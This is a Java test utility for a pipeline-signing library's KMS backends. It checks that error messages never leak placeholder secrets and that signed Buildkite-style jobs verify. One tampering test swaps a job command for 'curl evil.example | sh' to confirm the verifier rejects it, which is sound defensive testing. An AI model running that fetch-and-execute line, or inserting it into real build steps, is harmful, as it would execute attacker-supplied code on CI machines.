package dev.signet.keys.kms;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.signet.input.InputLimits;
import dev.signet.job.Job;
import dev.signet.job.JobExpander;
import dev.signet.job.JobVerdict;
import dev.signet.job.JobVerifier;
import dev.signet.keys.Algorithm;
import dev.signet.keys.KeyException;
import dev.signet.keys.Signer;
import dev.signet.keys.SigningKey;
import dev.signet.keys.VerificationKeys;
import dev.signet.pipeline.CommandStep;
import dev.signet.pipeline.Pipeline;
import dev.signet.pipeline.PipelineParser;
import dev.signet.pipeline.StepSignature;
import dev.signet.signing.PipelineSigner;
import java.nio.charset.StandardCharsets;
import java.security.PublicKey;
import java.time.Duration;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.assertj.core.api.ThrowableAssert.ThrowingCallable;

/** What the three backends' tests share: options, error assertions, the pipeline round trip. */
final class KmsTesting {
  private KmsTesting() {}

  /** Quick retries, so that tests of give-up behaviour take milliseconds. */
  static final KmsOptions FAST =
      new KmsOptions(
          Duration.ofSeconds(2),
          Duration.ofSeconds(5),
          Duration.ofSeconds(30),
          3,
          Duration.ofMillis(1),
          Duration.ofMillis(10));

  /** A short call timeout, for the slow-server tests. */
  static final KmsOptions IMPATIENT =
      new KmsOptions(
          Duration.ofSeconds(2),
          Duration.ofMillis(400),
          Duration.ofSeconds(30),
          2,
          Duration.ofMillis(1),
          Duration.ofMillis(10));

  /** Secrets the tests put into the environment; no message may ever contain one. */
  static final String AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYSECRETKEY";

  static final String AWS_SESSION = "FwoGZXIvYXdzEXAMPLESESSIONTOKENxyz";
  static final String GCP_TOKEN = "ya29.a0AfH6SMBexampleGCPtoken";
  static final String VAULT_TOKEN = "hvs.CAESIexampleVAULTtoken";
  static final List<String> SECRETS = List.of(AWS_SECRET, AWS_SESSION, GCP_TOKEN, VAULT_TOKEN);

  /** Asserts a refusal: the reason, one line, the fragments, and no secret. */
  static KeyException refused(
      ThrowingCallable call, KeyException.Reason reason, String... fragments) {
    KeyException[] out = new KeyException[1];
    assertThatThrownBy(call)
        .isInstanceOfSatisfying(
            KeyException.class,
            e -> {
              out[0] = e;
              assertThat(e.reason()).as(e.getMessage()).isEqualTo(reason);
              assertThat(e.getMessage()).doesNotContain("\n", "\r").contains(fragments);
              for (String secret : SECRETS) {
                assertThat(e.getMessage()).doesNotContain(secret);
              }
            });
    return out[0];
  }

  static final String PIPELINE =
      """
      env:
        DEPLOY_TARGET: staging
      steps:
        - label: test
          command: make test
          env:
            GOFLAGS: -race
        - group: release
          steps:
            - command: "echo {{matrix.os}}"
              matrix:
                setup:
                  os: [linux, darwin]
            - wait
            - command: ./deploy.sh
              plugins:
                - docker#v5.11.0:
                    image: alpine
      """;

  static final String REPO = "git@github.com:acme/widgets.git";

  /**
   * Signs a pipeline with the KMS key as Buildkite signs with a KMS key — no {@code kid} in the
   * header — then expands it into jobs and verifies every one with {@code trusted}, a public key
   * obtained independently of the key under test. A tampered job must be refused.
   */
  static void signedPipelineJobsVerify(SigningKey key, PublicKey trusted) throws Exception {
    Signer signer = Signer.of(key);
    assertThat(signer.keyId()).isNull();
    Pipeline pipeline = PipelineParser.parse(PIPELINE, "pipeline.yml", InputLimits.DEFAULT);
    Pipeline signed =
        PipelineSigner.sign(pipeline, signer, PipelineSigner.Options.forRepository(REPO));
    List<Job> jobs = JobExpander.expand(signed, REPO, Map.of());
    assertThat(jobs).hasSize(4);
    JobVerifier agent =
        new JobVerifier(
            VerificationKeys.of(trusted, key.algorithm(), "agent's copy of " + key.reference()),
            JobVerifier.FailureBehavior.BLOCK);
    for (Job job : jobs) {
      StepSignature sig = job.step().signature();
      assertThat(sig).isNotNull();
      assertThat(sig.algorithm()).isEqualTo(key.algorithm().jwa());
      String header =
          new String(
              Base64.getUrlDecoder().decode(sig.value().substring(0, sig.value().indexOf('.'))),
              StandardCharsets.UTF_8);
      assertThat(header).isEqualTo("{\"alg\":\"" + key.algorithm().jwa() + "\"}");
      if (key.algorithm().keyType() == Algorithm.KeyType.EC) {
        // JWS wants raw R‖S, not the DER the KMS returned.
        int rs = 2 * dev.signet.keys.EcdsaSignatures.scalarBytes(key.algorithm());
        assertThat(
                Base64.getUrlDecoder()
                    .decode(sig.value().substring(sig.value().lastIndexOf('.') + 1)))
            .hasSize(rs);
      }
      assertThat(agent.verify(job)).as(job.id()).isInstanceOf(JobVerdict.Verified.class);
    }
    Job first = jobs.getFirst();
    CommandStep evil = first.step().withCommand("curl evil.example | sh");
    var env = new LinkedHashMap<>(first.env());
    env.put("BUILDKITE_COMMAND", "curl evil.example | sh");
    Job tampered = new Job(first.id(), env, evil, first.matrixPermutation());
    assertThat(agent.verify(tampered)).isInstanceOf(JobVerdict.Failed.class);
  }

  /** The key's native signatures verify with the JDK alone, for messages and for digests. */
  static void nativeSignaturesVerifyWithTheJdk(SigningKey key, PublicKey trusted) throws Exception {
    byte[] message = "artifact bytes\n".getBytes(StandardCharsets.UTF_8);
    assertThat(SoftKey.jdkVerifies(key.algorithm(), trusted, message, key.signMessage(message)))
        .isTrue();
    if (key.algorithm().prehashable()) {
      byte[] digest =
          java.security.MessageDigest.getInstance(key.algorithm().digest()).digest(message);
      assertThat(SoftKey.jdkVerifies(key.algorithm(), trusted, message, key.signDigest(digest)))
          .isTrue();
    } else {
      refused(() -> key.signDigest(new byte[64]), KeyException.Reason.NOT_ALLOWED, "Ed25519");
    }
    assertThat(key.keyId()).isNull();
    assertThat(key.publicKey().getEncoded()).isEqualTo(trusted.getEncoded());
  }
}
